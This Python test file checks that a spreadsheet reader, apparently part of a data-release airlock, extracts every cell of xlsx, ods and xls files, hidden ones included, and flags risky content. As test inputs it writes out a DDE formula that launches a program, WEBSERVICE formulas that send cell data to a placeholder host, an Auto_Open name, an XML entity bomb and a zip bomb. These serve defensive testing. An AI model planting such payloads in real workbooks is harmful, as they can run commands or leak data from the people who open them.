"""Workbooks: every cell comes out, wherever it hides."""

from __future__ import annotations

import datetime as dt
import io
import struct
import zipfile
from collections.abc import Callable

import openpyxl
import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl.comments import Comment
from openpyxl.styles import Font
from openpyxl.workbook.defined_name import DefinedName

from sdc_airlock.identify import identify
from sdc_airlock.limits import Limits
from sdc_airlock.model.content import Content, Grid, OddityKind, TextPart, TextRole, UnreadReason
from sdc_airlock.readers import read
from sdc_airlock.readers._biff import xlsb_reach
from sdc_airlock.readers._numbers import date_text, number_format, number_text
from sdc_airlock.source import Source


def content_of(data: bytes, name: str = "book.xlsx", limits: Limits | None = None) -> Content:
    """What the registered readers make of some bytes."""
    source = Source.of_bytes(data, part_id=name, name=name)
    return read(source, identify(source), file_id="0" * 64, limits=limits or Limits())


def saved(book: openpyxl.Workbook) -> bytes:
    """A workbook as bytes."""
    stream = io.BytesIO()
    book.save(stream)
    return stream.getvalue()


def grids(content: Content) -> list[Grid]:
    """All grids of a content."""
    return [part for part in content.parts if isinstance(part, Grid)]


def cells(content: Content) -> set[str]:
    """All cell texts."""
    return {cell for grid in grids(content) for row in grid.rows for cell in row if cell}


def kinds(content: Content) -> set[OddityKind]:
    """Kinds of all oddities."""
    return {oddity.kind for oddity in content.oddities}


def rezipped(data: bytes, changes: dict[str, Callable[[str], str] | str | bytes]) -> bytes:
    """A package with some members changed or added."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as old, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as new:
        for name in old.namelist():
            change = changes.get(name)
            body = old.read(name)
            new.writestr(name, change(body.decode()) if callable(change) else body)
        for name, change in changes.items():
            if not callable(change):
                new.writestr(name, change)
    return out.getvalue()


SHARED = '<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><si><t>leftover </t><t>name</t></si></sst>'


def table() -> openpyxl.Workbook:
    """A small table of counts."""
    book = openpyxl.Workbook()
    sheet = book.active
    sheet.title = "Deaths"
    for row in (["region", "deaths"], ["North", 120], ["South", 340]):
        sheet.append(row)
    return book


def test_ordinary_workbook_is_complete() -> None:
    """A plain table gives one grid, no gap and no oddity."""
    content = content_of(saved(table()))
    assert content.complete
    assert not content.oddities
    assert grids(content)[0].rows == (("region", "deaths"), ("North", "120"), ("South", "340"))
    assert grids(content)[0].part_id == "book.xlsx!Deaths"


_TEXTS = st.text(st.characters(codec="utf-8", categories=("L", "N", "P", "S", "Zs")), min_size=1, max_size=12).filter(
    lambda text: text.strip() == text and "_x" not in text and not text.startswith("=")
)
_VALUES = st.one_of(_TEXTS, st.integers(-(10**14), 10**14), st.decimals(-(10**6), 10**6, places=3).map(float), st.booleans())


@given(
    st.dictionaries(st.tuples(st.integers(0, 3), st.integers(1, 60), st.integers(1, 40)), _VALUES, min_size=1, max_size=25),
    st.sets(st.integers(1, 60), max_size=5),
    st.sets(st.integers(1, 3), max_size=2),
)
def test_every_cell_comes_out(written: dict[tuple[int, int, int], object], hidden_rows: set[int], hidden_sheets: set[int]) -> None:
    """Whatever is written, in hidden sheets and rows too, stands in a grid at its row and column."""
    book = openpyxl.Workbook()
    sheets = [book.active, *(book.create_sheet() for _ in range(3))]
    for number in hidden_sheets:
        sheets[number].sheet_state = "veryHidden"
    for (number, row, column), value in written.items():
        sheets[number].cell(row, column, value)
        if row in hidden_rows:
            sheets[number].row_dimensions[row].hidden = True
    content = content_of(saved(book))
    for (number, row, column), value in written.items():
        found = [
            grid.rows[row - grid.first_row][column - grid.first_column]
            for grid in grids(content)
            if grid.part_id == f"book.xlsx!{sheets[number].title}"
            and 0 <= row - grid.first_row < len(grid.rows)
            and 0 <= column - grid.first_column < len(grid.rows[row - grid.first_row])
        ]
        assert expected(value) in found


def expected(value: object) -> str:
    """Cell text of a value."""
    if isinstance(value, bool):
        return str(value).upper()
    if isinstance(value, int | float):
        return number_text(repr(value))
    return str(value)


def test_cells_beyond_the_declared_range_are_read() -> None:
    """A sheet that declares fewer cells than it has hides nothing."""

    def shrink(text: str) -> str:
        return text.replace('<dimension ref="A1:B3"', '<dimension ref="A1:B2"')

    content = content_of(rezipped(saved(table()), {"xl/worksheets/sheet1.xml": shrink}))
    assert "340" in cells(content)
    assert OddityKind.CELLS_BEYOND_RANGE in kinds(content)


def test_a_far_cell_is_read() -> None:
    """One cell at the end of the sheet neither fills memory nor is lost; rows keep their numbers."""
    book = table()
    book.active.cell(1_048_576, 16_384, "far")
    data = saved(book)
    content = content_of(data)
    assert {(grid.first_row, grid.first_column) for grid in grids(content)} == {(1, 1), (1_048_576, 16_384)}
    assert content.complete


def test_scattered_cells_are_cut_into_blocks() -> None:
    """Blocks that lie far apart become grids of their own."""
    book = openpyxl.Workbook()
    for corner in (1, 5_000, 90_000):
        for row in range(3):
            for column in range(3):
                book.active.cell(corner + row, min(corner, 16_000) + column, corner + row + column)
    content = content_of(saved(book))
    assert [len(grid.rows) for grid in grids(content)] == [3, 3, 3]


def test_cell_limit_leaves_a_gap() -> None:
    """More cells than the limit: what was read stays, and a gap names the limit."""
    content = content_of(saved(table()), limits=Limits(cells=4))
    assert content.unread[0].why is UnreadReason.LIMIT
    assert content.unread[0].limit_name == "cells"


def test_hidden_things_are_read_and_named() -> None:
    """Hidden sheets, rows, columns, masked numbers and comments come out with an oddity each."""
    book = table()
    book.active.row_dimensions[3].hidden = True
    book.active["D1"] = 4711
    book.active["D1"].number_format = ";;;"
    book.active["A2"].comment = Comment("three cases in one family", "me")
    secret = book.create_sheet("Raw")
    secret["A1"] = "patient"
    secret.sheet_state = "hidden"
    content = content_of(saved(book))
    assert {"340", "4711", "patient"} <= cells(content)
    assert {OddityKind.HIDDEN_CELLS, OddityKind.HIDDEN_SHEET, OddityKind.HIDDEN_TEXT} <= kinds(content)
    assert any(isinstance(part, TextPart) and part.role is TextRole.COMMENT and "one family" in part.text for part in content.parts)
    assert next(grid for grid in grids(content) if grid.part_id.endswith("!Raw")).hidden


def test_white_on_white_is_hidden() -> None:
    """Text in the colour of the page counts as hidden cells."""
    book = table()
    book.active["B3"].font = Font(color="FFFFFF")
    assert OddityKind.HIDDEN_CELLS in kinds(content_of(saved(book)))


def test_types_of_cells() -> None:
    """Dates, times, percentages, booleans and errors read as they are shown."""
    book = openpyxl.Workbook()
    sheet = book.active
    moment = dt.datetime.fromisoformat("2021-03-04T05:06:07")
    sheet.append([dt.date(2021, 3, 4), moment, dt.time(8, 9, 10), True, "#N/A", 0.125, 3.0])
    sheet["F1"].number_format = "0.0%"
    assert grids(content_of(saved(book)))[0].rows[0] == ("2021-03-04", "2021-03-04 05:06:07", "08:09:10", "TRUE", "#N/A", "12.5%", "3")


@pytest.mark.parametrize(
    ("code", "value", "hides"),
    [
        (";;;", 3, True),
        ("0.0", 3, False),
        ('[<5]"<5";0', 3, True),
        ('[<5]"<5";0', 7, False),
        ('#,##0;-#,##0;"-"', 0, False),
        ('_(* #,##0_);_(* (#,##0);_(* "-"??_);_(@_)', 12, False),
        ('"secret"', 12, True),
        ("General", 12, False),
        ("[$-409]d mmm yyyy", 12, False),
    ],
)
def test_formats_that_show_nothing(code: str, value: float, *, hides: bool) -> None:
    """A format hides a number where its section for that number has no place for digits."""
    assert number_format(164, code).hides(value) is hides


def test_numbers_before_the_leap_day_that_never_was() -> None:
    """Day numbers below 60 count from the other end of Excel's false leap day."""
    assert date_text("59", from_1904=False) == "1900-02-28"
    assert date_text("61", from_1904=False) == "1900-03-01"
    assert date_text("0", from_1904=True) == "00:00:00"


def test_merged_header_stands_over_each_column() -> None:
    """A header merged over two columns names both; a title merged over the whole row stands once."""
    book = openpyxl.Workbook()
    for row in (["Table 1", None, None], ["region", "cases", None], [None, "men", "women"], ["North", 20, 30]):
        book.active.append(row)
    book.active.merge_cells("A1:C1")
    book.active.merge_cells("B2:C2")
    book.active.merge_cells("A2:A3")
    rows = grids(content_of(saved(book)))[0].rows
    assert rows[0] == ("Table 1", "", "")
    assert rows[1] == ("region", "cases", "cases")
    assert rows[2] == ("region", "men", "women")


def test_formula_without_result_keeps_its_text() -> None:
    """A formula that was never calculated stands in its cell, so that nothing in it goes unseen."""
    book = table()
    book.active["B4"] = "=SUM(B2:B3)"
    content = content_of(saved(book))
    assert "=SUM(B2:B3)" in cells(content)
    assert content.complete


def test_formulas_that_fetch() -> None:
    """Links to other workbooks are external references; formulas that call an address or a program are said to."""
    for formula, kind in (
        ('=WEBSERVICE("http://example.org/?q="&A2)', OddityKind.CALLING_FORMULA),
        ('=HYPERLINK("http://example.org/?q="&A2,"open")', OddityKind.CALLING_FORMULA),
        ("=cmd|'/c calc'!A0", OddityKind.CALLING_FORMULA),
        ("=[1]Sheet1!A1", OddityKind.EXTERNAL_REFERENCE),
    ):
        book = table()
        book.active["B4"] = formula
        assert kind in kinds(content_of(saved(book))), formula


def test_names_that_act() -> None:
    """A name may hold a formula that calls out, or name a macro that runs on opening."""
    for name, text, kind in (
        ("rate", 'WEBSERVICE("http://example.org/")', OddityKind.CALLING_FORMULA),
        ("Auto_Open", "Deaths!$A$1", OddityKind.AUTOMATIC_ACTION),
    ):
        book = table()
        book.defined_names[name] = DefinedName(name, attr_text=text)
        assert kind in kinds(content_of(saved(book))), name


def test_shared_strings_with_runs_and_guides() -> None:
    """Runs of one string are joined; its phonetic guide, which no cell shows, is kept apart."""
    main = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
    strings = f'<sst xmlns="{main}"><si><r><t>Nor</t></r><r><t>th</t></r><rPh sb="0" eb="1"><t>guide</t></rPh></si></sst>'
    sheet = f'<worksheet xmlns="{main}"><sheetData><row r="1"><c r="A1" t="s"><v>0</v></c></row></sheetData></worksheet>'
    content = content_of(rezipped(saved(table()), {"xl/worksheets/sheet1.xml": lambda _text: sheet, "xl/sharedStrings.xml": strings}))
    assert cells(content) == {"North"}
    assert any(isinstance(part, TextPart) and part.text == "guide" for part in content.parts)


def test_unlisted_sheet_and_unused_strings() -> None:
    """A sheet that the workbook does not list, and texts that no cell shows, are found."""
    sheet = '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>orphan</t></is></c></row></sheetData></worksheet>'
    content = content_of(rezipped(saved(table()), {"xl/worksheets/sheet9.xml": sheet, "xl/sharedStrings.xml": SHARED}))
    assert "orphan" in cells(content)
    assert any(isinstance(part, TextPart) and "leftover name" in part.text for part in content.parts)
    assert {OddityKind.HIDDEN_SHEET, OddityKind.HIDDEN_TEXT} <= kinds(content)


def test_pivot_cache_records_come_out() -> None:
    """The records behind a pivot table are a hidden grid with their field names."""
    main = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
    definition = (
        f'<pivotCacheDefinition xmlns="{main}"><cacheFields><cacheField name="id"><sharedItems/></cacheField>'
        '<cacheField name="sex"><sharedItems><s v="F"/><s v="M"/></sharedItems></cacheField></cacheFields></pivotCacheDefinition>'
    )
    records = f'<pivotCacheRecords xmlns="{main}"><r><s v="P001"/><x v="0"/></r><r><s v="P002"/><x v="1"/></r></pivotCacheRecords>'
    rels = (
        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        '<Relationship Id="rId1" Type="x/pivotCacheRecords" Target="pivotCacheRecords1.xml"/></Relationships>'
    )
    data = rezipped(
        saved(table()),
        {
            "xl/pivotCache/pivotCacheDefinition1.xml": definition,
            "xl/pivotCache/pivotCacheRecords1.xml": records,
            "xl/pivotCache/_rels/pivotCacheDefinition1.xml.rels": rels,
        },
    )
    content = content_of(data)
    cache = next(grid for grid in grids(content) if "pivotcache" in grid.part_id)
    assert cache.rows == (("id", "sex"), ("P001", "F"), ("P002", "M"))
    assert cache.hidden
    assert OddityKind.HIDDEN_CELLS in kinds(content)


def test_chart_points_and_external_cells_come_out() -> None:
    """Numbers kept with a chart and cells kept of another workbook become grids."""
    chart = (
        '<c:chartSpace xmlns:c="urn:c"><c:chart><c:plotArea><c:barChart><c:ser><c:tx><c:strRef><c:strCache><c:pt idx="0"><c:v>cases</c:v></c:pt></c:strCache></c:strRef></c:tx>'
        '<c:cat><c:strRef><c:strCache><c:pt idx="0"><c:v>North</c:v></c:pt><c:pt idx="1"><c:v>South</c:v></c:pt></c:strCache></c:strRef></c:cat>'
        '<c:val><c:numRef><c:numCache><c:pt idx="0"><c:v>3</c:v></c:pt><c:pt idx="1"><c:v>41.0</c:v></c:pt></c:numCache></c:numRef></c:val>'
        "</c:ser></c:barChart></c:plotArea></c:chart></c:chartSpace>"
    )
    link = '<externalLink xmlns="urn:x"><externalBook><sheetDataSet><sheetData sheetId="0"><row r="1"><cell r="A1" t="str"><v>kept</v></cell><cell r="B1"><v>7</v></cell></row></sheetData></sheetDataSet></externalBook></externalLink>'
    content = content_of(rezipped(saved(table()), {"xl/charts/chart1.xml": chart, "xl/externalLinks/externalLink1.xml": link}))
    found = {grid.part_id: grid.rows for grid in grids(content)}
    assert found["book.xlsx!chart1"] == (("", "cases"), ("North", "3"), ("South", "41"))
    assert found["book.xlsx!external1!1"] == (("kept", "7"),)
    assert OddityKind.EXTERNAL_REFERENCE in kinds(content)


def test_nothing_rides_along_unread() -> None:
    """A member of no known kind is descended into; one that nobody can read is a gap."""
    hidden_csv = "id,sex,age\n" + "\n".join(f"P{number:04},F,{20 + number}" for number in range(40))
    content = content_of(rezipped(saved(table()), {"xl/media/data.csv": hidden_csv, "xl/extra.bin": bytes(range(256)) * 9}))
    assert any("P0003" in str(part) for part in content.parts) or any("embedded" in gap.part_id for gap in content.unread)
    assert not content.complete
    assert OddityKind.EMBEDDED_OBJECT in kinds(content)


def test_macros_are_named_and_held() -> None:
    """A macro project is an oddity and a gap."""
    content = content_of(rezipped(saved(table()), {"xl/vbaProject.bin": b"\xd0\xcf\x11\xe0" + "_VBA_PROJECT".encode("utf-16-le")}))
    assert OddityKind.MACRO in kinds(content)
    assert not content.complete


@pytest.mark.parametrize("where", ["xl/worksheets/sheet1.xml", "xl/sharedStrings.xml", "xl/workbook.xml", "xl/styles.xml"])
def test_entities_are_refused(where: str) -> None:
    """A part that declares entities is a gap at once, never expanded."""
    bomb = '<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]>'

    def arm(text: str) -> str:
        head, _, rest = text.partition("?>") if text.startswith("<?xml") else ("", "", text)
        return f"{head}?>{bomb}{rest}" if head else bomb + rest

    content = content_of(rezipped(rezipped(saved(table()), {"xl/sharedStrings.xml": SHARED}), {where: arm}))
    assert not content.complete


def test_zip_bomb_is_a_gap() -> None:
    """A sheet that unpacks to more than the limit ends as a gap, soon."""
    sheet = "<worksheet><sheetData>" + " " * 30_000_000 + "</sheetData></worksheet>"
    content = content_of(rezipped(saved(table()), {"xl/worksheets/sheet2.xml": sheet}), limits=Limits(member_bytes=1 << 20))
    assert any(gap.why is UnreadReason.LIMIT for gap in content.unread)


def test_deep_nesting_is_a_gap() -> None:
    """Elements nested without end are a gap, not a crash."""
    deep = "<worksheet>" + "<a>" * 50_000 + "</a>" * 50_000 + "</worksheet>"
    content = content_of(rezipped(saved(table()), {"xl/worksheets/sheet2.xml": deep, "xl/other.xml": deep.replace("worksheet", "odd")}))
    assert sum(gap.why in (UnreadReason.LIMIT, UnreadReason.MALFORMED) for gap in content.unread) >= 1


def test_bytes_around_the_zip_are_named() -> None:
    """Bytes before, behind and between members are oddities."""
    data = saved(table())
    assert OddityKind.TRAILING_DATA in kinds(content_of(data + b"P001,F,33\n" * 20))
    assert OddityKind.LEADING_DATA in kinds(content_of_type(b"P001,F,33\n" * 20 + data))


def content_of_type(data: bytes) -> Content:
    """What the workbook reader makes of bytes, whatever identification says."""
    from sdc_airlock.model.filetype import Family, FileType

    source = Source.of_bytes(data, part_id="book.xlsx", name="book.xlsx")
    return read(source, FileType(label="xlsx", family=Family.SPREADSHEET), file_id="0" * 64, limits=Limits())


def test_sheet_names_are_shown_safely() -> None:
    """Control and direction characters in a sheet's name are escaped in its address."""
    book = table()
    book.active.title = "a\u202eb"
    assert grids(content_of(saved(book)))[0].part_id == "book.xlsx!a\\u202eb"


@given(st.binary(min_size=1, max_size=4), st.integers(0, 4000))
def test_damaged_workbooks_never_crash(noise: bytes, where: int) -> None:
    """A workbook with some bytes overwritten gives parts or gaps, never an exception."""
    data = bytearray(saved(table()))
    where %= len(data)
    data[where : where + len(noise)] = noise
    content_of_type(bytes(data))


def ods(rows: str) -> bytes:
    """An OpenDocument spreadsheet with these table rows."""
    names = 'xmlns:office="o" xmlns:table="t" xmlns:text="x"'
    body = f'<office:document-content {names}><office:body><office:spreadsheet><table:table table:name="S">{rows}</table:table></office:spreadsheet></office:body></office:document-content>'
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as package:
        package.writestr("mimetype", "application/vnd.oasis.opendocument.spreadsheet")
        package.writestr("content.xml", body)
    return out.getvalue()


def test_opendocument_cells() -> None:
    """Typed cells, repeated cells, hidden rows and comments of an ods file."""
    rows = (
        '<table:table-row><table:table-cell table:number-columns-repeated="2" office:value-type="float" office:value="7.0"><text:p>7</text:p></table:table-cell>'
        '<table:table-cell office:value-type="percentage" office:value="0.5"><text:p>50 %</text:p></table:table-cell></table:table-row>'
        '<table:table-row table:visibility="collapse"><table:table-cell office:value-type="string"><office:annotation><text:p>note</text:p></office:annotation>'
        "<text:p>shown</text:p></table:table-cell></table:table-row>"
        '<table:table-row table:number-rows-repeated="1048000"><table:table-cell table:number-columns-repeated="16384"/></table:table-row>'
    )
    content = content_of(ods(rows), "book.ods")
    assert grids(content)[0].rows == (("7", "7", "50%"), ("shown", "", ""))
    assert {OddityKind.HIDDEN_CELLS, OddityKind.HIDDEN_TEXT} <= kinds(content)
    assert content.complete


def test_opendocument_repeat_bomb_is_a_gap() -> None:
    """A value repeated over the whole sheet is a gap, at once."""
    rows = '<table:table-row table:number-rows-repeated="1048576"><table:table-cell table:number-columns-repeated="16384" office:value-type="float" office:value="1"/></table:table-row>'
    content = content_of(ods(rows), "book.ods")
    assert any(gap.limit_name == "cells" for gap in content.unread)


def record(kind: int, body: bytes) -> bytes:
    """A record of an xls file."""
    return struct.pack("<HH", kind, len(body)) + body


def xls(cells: bytes, *, head: bytes = b"", state: int = 0, streams: dict[str, bytes] | None = None) -> bytes:
    """An Excel 97 workbook of one sheet with these cell records, and more streams beside it."""
    begin = struct.pack("<HHHHII", 0x600, 5, 0x0DBB, 0x07CC, 0, 6)
    first = record(0x809, begin) + head
    name = b"Data"
    length = len(first) + 4 + 8 + len(name) + 4
    listed = record(0x85, struct.pack("<IBBBB", length, state, 0, len(name), 0) + name)
    sheet = record(0x809, struct.pack("<HHHHII", 0x600, 0x10, 0x0DBB, 0x07CC, 0, 6)) + cells + record(0x0A, b"")
    return compound({"Workbook": first + listed + record(0x0A, b"") + sheet, **(streams or {})})


def compound(streams: dict[str, bytes]) -> bytes:
    """An OLE compound file of large streams."""
    free, end = 0xFFFFFFFF, 0xFFFFFFFE
    bodies = {name: body.ljust(max(4096, -(-len(body) // 512) * 512), b"\x00") for name, body in streams.items()}
    table = [0xFFFFFFFD, end]
    entries = [("Root Entry", 5, 1, end, 0)]
    sectors = b""
    for number, (name, body) in enumerate(bodies.items(), start=1):
        start = len(table)
        table += [*range(start + 1, start + len(body) // 512), end]
        sectors += body
        entries.append((name, 2, number + 1 if number < len(bodies) else free, start, len(body)))
    folder = b""
    for number, (name, kind, link, start, size) in enumerate(entries):
        right, child = (free, link) if number == 0 else (link, free)
        raw = name.encode("utf-16-le")
        folder += (
            raw.ljust(64, b"\x00")
            + struct.pack("<HBBIII", len(raw) + 2, kind, 1, free, right, child)
            + bytes(36)
            + struct.pack("<IQ", start, size)
        )
    header = (
        b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
        + bytes(16)
        + struct.pack("<HHHHH6xIIIIIIIIII", 62, 3, 0xFFFE, 9, 6, 0, 1, 1, 0, 4096, end, 0, end, 0, 0)
    )
    header = header[:76] + struct.pack("<109I", 0, *[free] * 108)
    return header + struct.pack("<128I", *table, *[free] * (128 - len(table))) + folder.ljust(512, b"\x00") + sectors


def number(row: int, column: int, value: float) -> bytes:
    """A number record."""
    return record(0x203, struct.pack("<HHHd", row, column, 0, value))


def test_binary_workbook() -> None:
    """Cells of an xls file come out with their row numbers; hidden rows and sheets are named."""
    hidden_row = record(0x208, struct.pack("<HHHHHHHH", 4, 0, 3, 255, 0, 0, 0x20, 0))
    content = content_of(xls(hidden_row + number(3, 1, 12.0) + number(4, 2, 0.5), state=1), "old.xls")
    assert grids(content)[0].rows == (("12", ""), ("", "0.5"))
    assert (grids(content)[0].first_row, grids(content)[0].first_column) == (4, 2)
    assert {OddityKind.HIDDEN_CELLS, OddityKind.HIDDEN_SHEET} <= kinds(content)
    assert content.complete


def test_binary_workbook_passes_nothing_over() -> None:
    """Streams beside the workbook, links and comments of an xls file are named or are gaps."""
    comment = record(0x1B6, struct.pack("<HHHHHHHH", 0, 0, 0, 0, 0, 6, 16, 0)) + record(0x3C, b"\x00remark")
    content = content_of(
        xls(number(0, 0, 1.0) + comment, head=record(0x1AE, b"\x01\x00\x05\x00\x00other"), streams={"MBD0001": b"x"}), "old.xls"
    )
    assert any(isinstance(part, TextPart) and part.text == "remark" for part in content.parts)
    assert OddityKind.EXTERNAL_REFERENCE in kinds(content)
    assert any("MBD0001" in gap.part_id for gap in content.unread)


def test_sealed_binary_workbook_is_a_gap() -> None:
    """An xls file that asks for a password is a gap."""
    content = content_of(xls(number(0, 0, 1.0), head=record(0x2F, bytes(6))), "old.xls")
    assert content.unread[0].why is UnreadReason.ENCRYPTED


def test_wide_binary_workbook_is_a_gap() -> None:
    """An xls file whose cells span more than the limit is not handed to the library."""
    content = content_of(xls(number(0, 0, 1.0) + number(65_535, 255, 2.0)), "old.xls")
    assert content.unread[0].limit_name == "cells"


@given(st.binary(min_size=1, max_size=6), st.integers(0, 6000))
def test_damaged_binary_workbooks_never_crash(noise: bytes, where: int) -> None:
    """An xls file with some bytes overwritten gives parts or gaps, never an exception."""
    from sdc_airlock.model.filetype import Family, FileType

    data = bytearray(xls(number(0, 0, 1.0) + number(2, 1, 4.0)))
    where %= len(data)
    data[where : where + len(noise)] = noise
    source = Source.of_bytes(bytes(data), part_id="old.xls", name="old.xls")
    content = read(source, FileType(label="xls", family=Family.SPREADSHEET), file_id="0" * 64, limits=Limits())
    assert content.parts or content.unread


def varied(value: int) -> bytes:
    """A number as xlsb writes record kinds and lengths."""
    out = bytearray()
    while True:
        out.append(value & 0x7F | (0x80 if value > 0x7F else 0))
        value >>= 7
        if not value:
            return bytes(out)


def test_reach_of_a_package_of_binary_sheets() -> None:
    """The rectangle of an xlsb sheet is measured from its rows and cells, not from what it declares."""
    row = varied(0) + varied(17) + struct.pack("<I", 1_048_575) + bytes(13)
    cell = varied(5) + varied(16) + struct.pack("<IId", 16_383, 0, 1.0)
    near = varied(0) + varied(17) + struct.pack("<I", 0) + bytes(13) + varied(5) + varied(16) + struct.pack("<IId", 0, 0, 1.0)
    reach = xlsb_reach(near + row + cell)
    assert reach.cells == 2
    assert reach.area == 1_048_576 * 16_384
